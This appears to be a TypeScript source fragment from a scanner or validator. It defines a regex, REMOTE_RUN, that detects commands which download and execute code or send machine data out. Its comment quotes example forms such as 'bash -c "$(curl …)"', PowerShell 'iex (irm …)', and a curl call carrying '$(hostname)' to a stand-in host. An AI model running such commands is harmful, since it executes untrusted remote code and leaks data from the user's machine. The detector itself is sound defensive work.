/**
 * Code that fetches from the network and runs what it got, or sends the machine's data out, in the
 * forms a pipe to a shell (`curl … | sh`) does not cover: the fetch inside a command substitution
 * handed to a shell or eval (`bash -c "$(curl …)"`, `eval "$(wget -qO- …)"`), a language's exec of
 * a download (`exec(urlopen('https://…').read())`, PowerShell's `iex (irm …)`), and a fetch whose
 * URL carries a command's output (`curl https://x.example/t?h=$(hostname)`), and a build script applied
 * from a URL (Gradle's `apply from: 'https://…'`).
 */
export const REMOTE_RUN = String.raw`\b(?:(?:ba|z|da)?sh\s+-c|eval)\s+["']?\$\(\s*(?:curl|wget)\b|\b(?:exec|eval)\s*\([^\n]{0,80}?(?:urlopen|urllib\.request|requests\.get|https?:\/\/)|\biex\b[^\n]{0,20}?\(?\s*(?:irm|iwr|invoke-webrequest|invoke-restmethod|new-object\s+net\.webclient)\b|\b(?:curl|wget)\b[^\n]{0,60}?https?:\/\/[^\s"'\x60]*\$\(|\bapply\s+from\s*:\s*["']https?:\/\/`;
